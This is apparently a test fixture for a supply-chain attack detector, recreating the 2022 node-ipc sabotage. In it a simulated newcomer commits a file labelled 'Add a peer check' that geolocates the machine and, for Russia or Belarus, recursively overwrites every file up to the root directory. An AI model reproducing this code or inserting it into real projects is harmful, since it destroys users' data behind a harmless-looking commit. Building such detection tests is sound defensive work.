import { NEWCOMER } from "../../../simulator/histories/people.ts";
import type { GoldenCase } from "../../golden-case.ts";

export const golden: GoldenCase = {
  kind: "attack",
  base: "javascript",
  story: "node-ipc, March 2022: files are overwritten where the address says Russia or Belarus.",
  write(branch) {
    branch.commit(NEWCOMER, "Add a peer check", {
      "src/peers.js": `import fs from "node:fs";\nimport https from "node:https";\nimport path from "node:path";\n\nhttps.get("https://api.ipgeolocation.io/ipgeo?apiKey=x", (answer) => {\n  answer.on("data", (data) => {\n    const country = JSON.parse(data.toString("utf8")).country_name.toLowerCase();\n    if (country.includes("russia") || country.includes("belarus")) {\n      for (const place of ["./", "../", "../../", "/"]) overwrite(place);\n    }\n  });\n});\n\nfunction overwrite(folder) {\n  for (const name of fs.readdirSync(folder)) {\n    const file = path.join(folder, name);\n    if (fs.statSync(file).isDirectory()) overwrite(file);\n    else fs.writeFileSync(file, "❤️", "utf8");\n  }\n}\n`,
    });
  },
};
